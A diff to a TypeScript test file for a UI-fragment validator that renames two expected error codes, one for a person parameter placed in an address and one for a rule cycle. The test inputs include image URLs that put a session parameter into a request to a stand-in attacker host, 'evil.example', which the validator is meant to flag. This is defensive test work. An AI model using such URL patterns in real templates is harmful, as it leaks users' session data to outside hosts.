@@ -144,7 +144,7 @@ describe("a fragment", () => {
   it("is where an address is looked at for the person, as a whole or in part", () => {
     const use = (picture: string) => ({ [`${SCREEN}#/body/1/with/picture`]: picture });
     const codes = (changes: Changes) => check(changes).map(({ code, at }) => `${code} ${at}`);
-    const wrong = [`person-in-address ${SCREEN}#/body/1/with/picture`];
+    const wrong = [`person-parameter-in-address ${SCREEN}#/body/1/with/picture`];
     expect(codes(use("https://pay.example/?s=\u0024{params.session}"))).toEqual([]);
     expect(codes(use("https://evil.example/?s=\u0024{params.session}"))).toEqual(wrong);
     const part = { [`${LINE}#/nodes/0/children/1/src`]: "https://evil.example/\u0024{with.picture}" };
@@ -236,9 +236,9 @@ describe("inputs with rules in a fragment", () => {
 
   it("don't depend on themselves by what the use gives, or by when it is shown", () => {
     const itself = "\u0024{valid.wallet}";
-    const circle = [`rule-circle ${SCREEN}#/body/2`];
+    const circle = [`rule-cycle ${SCREEN}#/body/2`];
     expect(found(use({}, itself))).toEqual(circle);
-    expect(found(use({ visible: itself }))).toEqual([`rule-circle ${SCREEN}#/body/2/visible`]);
+    expect(found(use({ visible: itself }))).toEqual([`rule-cycle ${SCREEN}#/body/2/visible`]);
     expect(found(use({ visible: "\u0024{state.rows != []}" }))).toEqual([]);
   });
 
